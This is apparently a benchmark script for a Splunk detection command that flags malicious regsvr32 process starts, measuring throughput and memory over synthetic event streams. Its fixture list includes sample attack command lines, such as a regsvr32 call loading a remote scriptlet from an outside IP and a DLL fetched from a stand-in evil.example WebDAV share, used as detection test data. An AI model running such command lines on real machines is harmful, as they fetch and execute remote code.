"""End-to-end benchmark of | regsvr32detect through the real protocol (a script, not a test).

    python3 tests/bench_command.py [--rows 200000] [--repeats 3] [--big 1000000]
                                   [--layouts splunkd,python,pairs] [--streams abc]
    ./package.sh bench [same options]

Drives each command as splunkd does (a subprocess; getinfo; execute chunks of 50,000 rows as CSV,
the last one finished) over three streams (a, b, c below), and prints, from ONE run with the
measurements alternating so that machine noise hits all of them alike:

- (a) every row a regsvr32 process start, no command line repeated (what `regsvr32_events` or
  the tstats pre-filter hands the command when attack, temp-file and per-user lines dominate);
- (b) every row regsvr32, a few installer lines on many hosts and a long tail of one-off lines;
- (c) the mixed stream: CIM Endpoint.Processes rows, about 3% of them regsvr32 runs.

Each stream is sent in each layout asked for: splunkd's (the reference: what a real splunkd
sends, tests/support/chunked.py: LF, everything but letters and digits quoted, an __mv_ column for
every field after all fields, _serial, _time and _raw), Python's csv writer's, or splunklib's
output pairs. The header width (columns) is printed next to each ratio: the no-op pays per column.

For each: rows per CPU second of the SDK's own no-op StreamingCommand (tests/support/noop_command.py,
same vendored splunklib), of our command in annotate and filter mode, their ratios to the no-op
and the floors; how many chunks the byte-level path (regsvr32_fastpath) left to the lean path,
and why; peak RSS (VmHWM) after 50k rows and after --big rows (chunks cycled until they hold that many); and the detector alone on (a) and
(b). Rows of (a) and (b) come in CIM, tstats (Processes.*), Sysmon 1 and 4688 forms.
"""
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import argparse  # noqa: E402
import csv  # noqa: E402
import io  # noqa: E402
import random  # noqa: E402
import subprocess  # noqa: E402
import time  # noqa: E402

import bench_detector  # noqa: E402
from support import chunked  # noqa: E402

CHUNK = 50000               # rows: what splunkd sends in one chunk at most
CHUNK_BYTES = 16 << 20      # and bytes (a real sum.map chunk: 50,000 rows in 16 MB)
NOOP = os.path.join(HERE, "support", "noop_command.py")
COMMANDS = [  # (label, script, args)
    ("no-op (splunklib)", NOOP, []),
    ("annotate", chunked.SCRIPT, []),
    ("filter", chunked.SCRIPT, ["mode=filter"]),
]
# (stream, command) -> lowest rows/cpu-s ratio to the no-op command (docs/performance.md)
FLOORS = {("a", "annotate"): 0.3, ("b", "annotate"): 1.0, ("c", "annotate"): 3.0,
          ("c", "filter"): 5.0}
DETECTOR_FLOOR = {"a": 15000}           # rows/s of the detector alone
RSS_FLOOR = 1.2
REGSVR32_SHARE = 0.03

SYS32, TEMP = "C:\\Windows\\System32\\", "C:\\Users\\alice\\AppData\\Local\\Temp\\"
REGSVR32 = SYS32 + "regsvr32.exe"
REGSVR32_RUNS = [  # (command line, parent): ordinary installs and attacks, as CIM carries them
    ('"%s" /s "C:\\Program Files\\Contoso\\Shell\\ContosoShell.dll"' % REGSVR32, SYS32 + "msiexec.exe"),
    ("regsvr32.exe /s " + SYS32 + "RpcProxy\\RpcProxy.dll", SYS32 + "cmd.exe"),
    ('regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VboxC.dll"', SYS32 + "msiexec.exe"),
    (REGSVR32 + " /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll", "C:\\Windows\\explorer.exe"),
    (REGSVR32 + " /s " + TEMP + "shell32.jpg", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    ("regsvr32.exe /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll", SYS32 + "cmd.exe"),
]


def cim_rows(n, seed=20260301):
    """n CIM rows with the same 12 columns; about REGSVR32_SHARE of them regsvr32 runs."""
    rnd = random.Random(seed)
    rows = bench_detector.ordinary_rows(n, rnd)
    for row in rows:
        if rnd.random() < REGSVR32_SHARE:
            cmd, parent = rnd.choice(REGSVR32_RUNS)
            row.update(process=cmd, process_name="regsvr32.exe", process_path=REGSVR32,
                       parent_process='"%s"' % parent, parent_process_name=parent.rsplit("\\", 1)[-1],
                       parent_process_path=parent)
    return rows


def stream_rows(name, n):
    """The rows of stream a, b or c (see the module's doc)."""
    if name == "c":
        return cim_rows(n)
    rnd = random.Random(20261129)
    return bench_detector.regsvr32_stream(n, rnd, distinct=None if name == "a" else max(1, n // 4))


STREAMS = (("a", "all regsvr32, nothing repeats"), ("b", "all regsvr32, installers repeat"),
           ("c", "mixed, %d%% regsvr32" % round(100 * REGSVR32_SHARE)))


def fast_path_report(bodies):
    """Why chunks did not take the byte-level path, as the command decides it: {reason: chunks}."""
    sys.path.insert(0, chunked.APP_BIN)
    sys.path.insert(0, os.path.join(chunked.APP_BIN, "lib"))
    try:
        import regsvr32_fastpath
    except ImportError:                 # an app without the byte-level path
        return {"no byte-level path": len(bodies)}
    from regsvr32_detector import OUTPUT_FIELDS
    from regsvr32_detector.bytemarks import spans
    out = {}
    for body, _ in bodies:
        why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS, spans)[1]  # the bytes, as the command reads them
        out[why] = out.get(why, 0) + 1
    return out


def vm_hwm_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return 0


def cpu_secs(pid):
    """User + system CPU seconds of a live process (fields 14 and 15 of /proc/<pid>/stat)."""
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / float(os.sysconf("SC_CLK_TCK"))


def drive(script, args, bodies, keep=False):
    """Runs one search over the pre-encoded chunk BODIES (a list, or a (body, count) generator).

    Returns dict(secs, startup, rows_in, hwm_kb, replies): the replies only if KEEP.
    """
    t0 = time.perf_counter()
    proc = subprocess.Popen([sys.executable, script], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            cwd=os.environ.get("TMPDIR", "/tmp"))
    try:
        proc.stdin.write(chunked.frame(chunked.getinfo(args)))
        proc.stdin.flush()
        info, _ = chunked.read_frame(proc.stdout)
        alerts = [m for m in (info.get("inspector") or {}).get("messages", []) if m[0] != "INFO"]
        assert not alerts, info
        t1, c1 = time.perf_counter(), cpu_secs(proc.pid)
        replies, rows_in = [], 0
        bodies = list(bodies)
        for i, (body, count) in enumerate(bodies):
            proc.stdin.write(chunked.frame({"action": "execute", "finished": i == len(bodies) - 1}, body))
            proc.stdin.flush()
            reply = chunked.read_frame(proc.stdout)
            assert reply is not None, "command died"
            rows_in += count
            if keep:
                replies.append(reply)
        t2, c2 = time.perf_counter(), cpu_secs(proc.pid)
        hwm = vm_hwm_kb(proc.pid)  # the child waits for the next chunk: still alive
        proc.stdin.close()
        assert proc.wait(timeout=60) == 0
        return {"secs": t2 - t1, "cpu": c2 - c1, "startup": t1 - t0, "rows_in": rows_in, "hwm_kb": hwm, "replies": replies}
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def pairs_csv(rows):
    """Every field followed by its (here empty) __mv_ column, the layout splunklib writes."""
    names = list(rows[0])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([c for n in names for c in (n, "__mv_" + n)])
    for row in rows:
        writer.writerow([c for n in names for c in (row[n], "")])
    return out.getvalue().encode("utf-8")


def cycled(bodies, rows):
    """The chunk BODIES, cycled, until they hold ROWS rows (chunks of 16 MB hold fewer than 50,000)."""
    out, n, i = [], 0, 0
    while n < rows:
        body, count = bodies[i % len(bodies)]
        out.append((body, count))
        n += count
        i += 1
    return out


def splunkd_rows(rows, start=1765000000):
    """ROWS as splunkd sends them: with _serial, _time (epoch seconds, a row a second) and _raw
    (the event's text: here its fields as key=value pairs) first."""
    out = []
    for i, row in enumerate(rows):
        full = {"_serial": str(i % CHUNK), "_time": str(start + i), "_raw": chunked.raw_text(row)}
        full.update(row)
        out.append(full)
    return out


def encode(rows, layout="splunkd"):
    """[(body, rows)] of the chunks of ROWS in LAYOUT."""
    if layout == "splunkd":
        rows = splunkd_rows(rows)
        to_csv = chunked.to_csv
    elif layout == "python":
        to_csv = chunked.python_csv
    else:
        to_csv = pairs_csv
    chunks, i = [], 0
    while i < len(rows):        # up to CHUNK rows, or fewer if their body would pass CHUNK_BYTES
        n = min(CHUNK, len(rows) - i)
        body = to_csv(rows[i:i + n])
        while len(body) > CHUNK_BYTES:
            n = n * CHUNK_BYTES // len(body) * 99 // 100
            body = to_csv(rows[i:i + n])
        chunks.append((body, n))
        i += n
    return chunks


def width(body):
    """Columns of a chunk's header."""
    return len(next(csv.reader(io.StringIO(body[:body.find(b"\n")].decode("utf-8")))))


def min_score():
    """The command's default min_score: the rows filter mode passes score at least this."""
    sys.path.insert(0, chunked.APP_BIN)
    sys.path.insert(0, os.path.join(chunked.APP_BIN, "lib"))
    from regsvr32detect import Regsvr32DetectCommand
    return Regsvr32DetectCommand.min_score.default


def fmt(n):
    return format(int(round(n)), ",")


def detector_alone(rows_by_stream, repeats):
    """Best rows/s of Detector.evaluate and of dict(row) on streams a and b, alternating; on
    stream a also of the work every rule needs done first: reading the row into an Event
    (fields.normalize), and that plus parsing the command line (cmdline.parse)."""
    sys.path.insert(0, chunked.APP_BIN)
    from regsvr32_detector import Detector, cmdline, fields, load_allowlists
    from support import events

    plans = {}          # field names -> fields.Plan, as the detector's memo keeps them

    def normalize(row):
        keys = tuple(row)
        plan = plans.get(keys) or plans.setdefault(keys, fields.Plan(keys))
        return fields.normalize(row, plan)

    def parsed(row):
        ev = normalize(row)
        return cmdline.parse(ev.command_line, ev.image_name, ev.cwd)
    best = {}
    for _ in range(repeats):
        for name in rows_by_stream:
            det = Detector(load_allowlists([events.DEFAULT_ALLOWLIST])[0])   # nothing memoized yet
            rows = rows_by_stream[name]
            kinds = [("baseline", dict), ("detector", det.evaluate)]
            if name == "a":
                kinds += [("normalize", normalize), ("normalize + parse", parsed)]
            for kind, fn in kinds:
                t0 = time.process_time()
                for row in rows:
                    fn(row)
                secs = time.process_time() - t0
                best[name, kind] = max(best.get((name, kind), 0.0), len(rows) / max(secs, 1e-9))
    return best


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rows", type=int, default=200000, help="rows per throughput run (default 200000)")
    ap.add_argument("--repeats", type=int, default=3, help="alternating repeats (default 3; best counts)")
    ap.add_argument("--big", type=int, default=1000000, help="rows of the big memory run (default 1000000)")
    ap.add_argument("--layouts", default="splunkd,python",
                    help="comma-separated: splunkd (what a real splunkd sends, the reference), "
                         "python (Python's csv writer, one column per field), pairs (each field "
                         "followed by an __mv_ column, as splunklib writes); default splunkd,python")
    ap.add_argument("--streams", default="abc", help="which streams to run (default abc)")
    args = ap.parse_args()
    streams = [(name, label) for name, label in STREAMS if name in args.streams]
    layouts = [x for x in args.layouts.split(",") if x]

    rows_by, bodies_by, flagged = {}, {}, {}
    for name, _ in streams:
        rows_by[name] = stream_rows(name, max(args.rows, CHUNK))
        for layout in layouts:
            key = name, layout
            bodies_by[key] = encode(rows_by[name][:args.rows], layout)
            # Correctness first: every row answered (filter: the flagged ones) on the first chunk.
            first = bodies_by[key][:1]
            annotated = chunked.from_csv(drive(chunked.SCRIPT, [], first, keep=True)["replies"][0][1])
            assert len(annotated) == first[0][1] and all(r["regsvr32_error"] == "" for r in annotated)
            flagged[key] = sum(1 for r in annotated if int(r["regsvr32_score"]) >= min_score())
            filtered = chunked.from_csv(drive(chunked.SCRIPT, ["mode=filter"], first, keep=True)["replies"][0][1])
            assert len(filtered) == flagged[key], (key, len(filtered), flagged[key])

    best = {}
    for _ in range(args.repeats):
        for key in bodies_by:
            for label, script, cargs in COMMANDS:
                run = drive(script, cargs, bodies_by[key])
                for kind, secs in (("wall", run["secs"]), ("cpu", run["cpu"])):
                    best[key, label, kind] = max(best.get((key, label, kind), 0.0),
                                                 run["rows_in"] / max(secs, 1e-9))

    hwm = {}   # memory: one chunk, then --big rows (the same chunk bodies, cycled)
    for key in bodies_by:
        if args.big <= 0:
            break
        bodies = bodies_by[key]
        for label, script, cargs in COMMANDS:
            hwm[key, label, "small"] = drive(script, cargs, cycled(bodies, CHUNK))["hwm_kb"]
            hwm[key, label, "big"] = drive(script, cargs, cycled(bodies, args.big))["hwm_kb"]
    det = detector_alone(dict((n, rows_by[n][:50000]) for n in rows_by if n in "ab"), args.repeats)

    sys.path.insert(0, os.path.join(chunked.APP_BIN, "lib"))
    import splunklib  # the vendored one that both commands run on
    print("Python %s, splunklib %s, %d cores (shared); %s rows per stream in chunks of %s; "
          "best of %d, alternating; big run %s rows" % (
              sys.version.split()[0], splunklib.__version__, os.cpu_count() or 0, fmt(args.rows),
              fmt(CHUNK), args.repeats, fmt(args.big)))
    # rows/s per CPU second of the command's process is what the floors judge: other work on the
    # machine slows the wall clock of every command, not their CPU time. Wall clock alongside.
    print("%-30s %-8s %4s %-9s %11s %8s %11s %8s %6s %7s %7s  %s" % (
        "stream", "layout", "cols", "command", "rows/cpu-s", "vs no-op", "rows/s wall", "vs no-op",
        "floor", "RSS 50k", "RSS big", "result"))
    for key in bodies_by:
        name, layout = key
        label_ = dict(streams)[name]
        cols = width(bodies_by[key][0][0])
        base_cpu, base_wall = best[key, COMMANDS[0][0], "cpu"], best[key, COMMANDS[0][0], "wall"]
        for label, _, _ in COMMANDS:
            floor = FLOORS.get((name, label))
            cpu, wall = best[key, label, "cpu"], best[key, label, "wall"]
            verdicts = []
            if floor:
                verdicts.append("PASS" if cpu / base_cpu >= floor else "BELOW")
            if (key, label, "small") in hwm:
                small, big = hwm[key, label, "small"] / 1024.0, hwm[key, label, "big"] / 1024.0
                if label != COMMANDS[0][0]:
                    verdicts.append("RSS flat" if big / small <= RSS_FLOOR else "RSS GROWS")
                rss = "%5.1fMB %5.1fMB" % (small, big)
            else:
                rss = "%7s %7s" % ("-", "-")
            print("%-30s %-8s %4d %-9s %11s %7.2fx %11s %7.2fx %6s %s  %s" % (
                "(%s) %s" % (name, label_[:26]), layout, cols, label.split(" ")[0], fmt(cpu),
                cpu / base_cpu, fmt(wall), wall / base_wall, "%.1fx" % floor if floor else "", rss,
                " ".join(verdicts)))
        report = fast_path_report(bodies_by[key])
        left = dict((k, v) for k, v in report.items() if k is not None)
        print("%-30s byte-level path: %d of %d chunks%s; %d of the first 50k rows pass filter mode" % (
            "", report.get(None, 0), len(bodies_by[key]),
            ("; left to the lean path: " + ", ".join("%s: %d" % kv for kv in sorted(left.items())))
            if left else "", flagged[key]))
    print()
    print("%-40s %12s %14s %9s  %s" % ("detector alone (default allowlist)", "rows/s", "dict() rows/s",
                                       "floor", "result"))
    for name, label_ in streams:
        if name not in "ab":
            continue
        d, floor = det[name, "detector"], DETECTOR_FLOOR.get(name)
        print("%-40s %12s %14s %9s  %s" % (
            "(%s) %s (50,000 rows)" % (name, label_), fmt(d), fmt(det[name, "baseline"]),
            fmt(floor) if floor else "-", ("PASS" if d >= floor else "BELOW") if floor else "(info)"))
        for stage in ("normalize", "normalize + parse") if name == "a" else ():
            print("%-40s %12s %14s %9s  %s" % ("    %s alone" % stage, fmt(det[name, stage]), "", "",
                                               "(what every rule needs first)"))


if __name__ == "__main__":
    main()
